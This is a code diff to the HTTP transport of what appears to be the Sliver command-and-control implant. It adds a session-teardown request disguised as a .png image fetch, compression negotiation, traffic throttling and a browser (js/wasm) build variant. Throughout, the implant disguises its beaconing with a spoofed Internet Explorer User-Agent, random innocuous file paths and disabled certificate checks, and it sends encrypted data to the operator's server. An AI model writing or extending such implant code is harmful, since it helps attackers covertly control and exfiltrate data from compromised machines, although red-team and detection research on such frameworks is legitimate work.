@@ -26,6 +26,7 @@ package transports
 // .jsp = init
 // .php = session
 //  .js = poll
+// .png = stop
 
 import (
 	"bytes"
@@ -45,7 +46,9 @@ import (
 	"log"
 	// {{end}}
 
+	// {{if ne .GOOS "js"}}
 	"net"
+	// {{end}}
 	"net/http"
 	"net/url"
 	"path"
@@ -61,6 +64,10 @@ const (
 	defaultUserAgent  = "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko"
 	defaultNetTimeout = time.Second * 60
 	defaultReqTimeout = time.Second * 60 // Long polling, we want a large timeout
+
+	// {{if eq .GOOS "js"}}
+	sessionQueryName = "PHPSESSID"
+	// {{end}}
 )
 
 // HTTPStartSession - Attempts to start a session with a given address
@@ -88,6 +95,9 @@ type SliverHTTPClient struct {
 	Client     *http.Client
 	SessionKey *AESKey
 	SessionID  string
+
+	// Compression - Negotiated at session init, empty if none
+	Compression string
 }
 
 // SessionInit - Initialize the session
@@ -101,7 +111,7 @@ func (s *SliverHTTPClient) SessionInit() error {
 	}
 	sKey := RandomAESKey()
 	s.SessionKey = &sKey
-	httpSessionInit := &pb.HTTPSessionInit{Key: sKey[:]}
+	httpSessionInit := &pb.HTTPSessionInit{Key: sKey[:], Compression: supportedCompression}
 	data, _ := proto.Marshal(httpSessionInit)
 	encryptedSessionInit, err := RSAEncrypt(data, publicKey)
 	if err != nil {
@@ -119,10 +129,21 @@ func (s *SliverHTTPClient) SessionInit() error {
 
 func (s *SliverHTTPClient) newHTTPRequest(method, uri string, encoderNonce int, body io.Reader) *http.Request {
 	req, _ := http.NewRequest(method, uri, body)
+	// {{if eq .GOOS "js"}}
+	// fetch() ignores our cookie jar and a custom User-Agent would force a
+	// CORS preflight, so the runtime's agent is used and the session ID goes
+	// in the query string instead
+	// {{else}}
 	req.Header.Set("User-Agent", defaultUserAgent)
+	// {{end}}
 	req.Header.Set("Accept-Language", "en-US")
 	query := req.URL.Query()
 	query.Set("_", fmt.Sprintf("%d", encoderNonce))
+	// {{if eq .GOOS "js"}}
+	if s.SessionID != "" {
+		query.Set(sessionQueryName, s.SessionID)
+	}
+	// {{end}}
 	req.URL.RawQuery = query.Encode()
 	return req
 }
@@ -207,11 +228,13 @@ func (s *SliverHTTPClient) getSessionID(sessionInit []byte) error {
 	if err != nil {
 		return err
 	}
-	sessionID, err := GCMDecrypt(*s.SessionKey, data)
+	initResp, err := GCMDecrypt(*s.SessionKey, data)
 	if err != nil {
 		return err
 	}
-	s.SessionID = string(sessionID)
+	negotiated := parseSessionInitResp(initResp)
+	s.SessionID = negotiated.ID
+	s.Compression = negotiated.Compression
 	// {{if .Debug}}
 	log.Printf("[http] New session id: %v", s.SessionID)
 	// {{end}}
@@ -246,7 +269,7 @@ func (s *SliverHTTPClient) Poll() ([]byte, error) {
 		return nil, errors.New("invalid session")
 	}
 	var data []byte
-	respData, _ := ioutil.ReadAll(resp.Body)
+	respData, _ := ioutil.ReadAll(&throttledReader{reader: resp.Body, limiters: []*limiter{sessionLimiter}})
 	defer resp.Body.Close()
 	if 0 < len(respData) {
 		data, err = encoder.Decode(respData)
@@ -261,19 +284,21 @@ func (s *SliverHTTPClient) Poll() ([]byte, error) {
 }
 
 // Send - Perform an HTTP POST request
-func (s *SliverHTTPClient) Send(data []byte) error {
+func (s *SliverHTTPClient) Send(data []byte, limiters []*limiter) error {
 	if s.SessionID == "" || s.SessionKey == nil {
 		return errors.New("no session")
 	}
 	reqData, err := GCMEncrypt(*s.SessionKey, data)
 
 	nonce, encoder := encoders.RandomEncoder()
-	reader := bytes.NewReader(encoder.Encode(reqData))
+	body := encoder.Encode(reqData)
+	reader := &throttledReader{reader: bytes.NewReader(body), limiters: limiters}
 	uri := s.phpURL()
 	// {{if .Debug}}
 	log.Printf("[http] POST -> %s", uri)
 	// {{end}}
 	req := s.newHTTPRequest(http.MethodPost, uri, nonce, reader)
+	req.ContentLength = int64(len(body))
 	resp, err := s.Client.Do(req)
 	if err != nil {
 		// {{if .Debug}}
@@ -287,6 +312,36 @@ func (s *SliverHTTPClient) Send(data []byte) error {
 	return nil
 }
 
+// CloseSession - Tell the server to tear down the session
+func (s *SliverHTTPClient) CloseSession() error {
+	if s.SessionID == "" || s.SessionKey == nil {
+		return errors.New("no session")
+	}
+	nonce := RandomAESKey()
+	ciphertext, err := GCMEncrypt(*s.SessionKey, nonce[:])
+	if err != nil {
+		return err
+	}
+	uri := s.pngURL()
+	encoderNonce, _ := encoders.RandomEncoder()
+	req := s.newHTTPRequest(http.MethodGet, uri, encoderNonce, nil)
+	query := req.URL.Query()
+	query.Set("nonce", string(ciphertext))
+	req.URL.RawQuery = query.Encode()
+	// {{if .Debug}}
+	log.Printf("[http] GET -> %s", uri)
+	// {{end}}
+	resp, err := s.Client.Do(req)
+	if err != nil {
+		return err
+	}
+	resp.Body.Close()
+	if resp.StatusCode != 200 {
+		return errors.New("{{if .Debug}}HTTP close failed (non-200 resp){{end}}")
+	}
+	return nil
+}
+
 func (s *SliverHTTPClient) jsURL() string {
 	curl, _ := url.Parse(s.Origin)
 	segments := []string{"js", "static", "assets", "dist", "javascript"}
@@ -319,6 +374,14 @@ func (s *SliverHTTPClient) txtURL() string {
 	return curl.String()
 }
 
+func (s *SliverHTTPClient) pngURL() string {
+	curl, _ := url.Parse(s.Origin)
+	segments := []string{"static", "www", "assets", "images", "img"}
+	filenames := []string{"logo.png", "favicon.png", "banner.png", "icon.png"}
+	curl.Path = path.Join(s.randomPath(segments, filenames)...)
+	return curl.String()
+}
+
 func (s *SliverHTTPClient) randomPath(segments []string, filenames []string) []string {
 	n := insecureRand.Intn(2) // How many segments?
 	genSegments := []string{}
@@ -335,7 +398,10 @@ func (s *SliverHTTPClient) randomPath(segments []string, filenames []string) []s
 
 func httpClient(address string, useProxy bool) *SliverHTTPClient {
 	httpTransport := &http.Transport{
-		Dial:                proxy.Direct.Dial,
+		// {{if ne .GOOS "js"}}
+		// A custom dialer disables the fetch() round tripper on js/wasm
+		Dial: proxy.Direct.Dial,
+		// {{end}}
 		TLSHandshakeTimeout: defaultNetTimeout,
 		TLSClientConfig:     &tls.Config{InsecureSkipVerify: true}, // We don't care about the HTTP(S) layer certs
 	}
@@ -368,9 +434,11 @@ func httpClient(address string, useProxy bool) *SliverHTTPClient {
 
 func httpsClient(address string, useProxy bool) *SliverHTTPClient {
 	netTransport := &http.Transport{
+		// {{if ne .GOOS "js"}}
 		Dial: (&net.Dialer{
 			Timeout: defaultNetTimeout,
 		}).Dial,
+		// {{end}}
 		TLSHandshakeTimeout: defaultNetTimeout,
 		TLSClientConfig:     &tls.Config{InsecureSkipVerify: true}, // We don't care about the HTTP(S) layer certs
 	}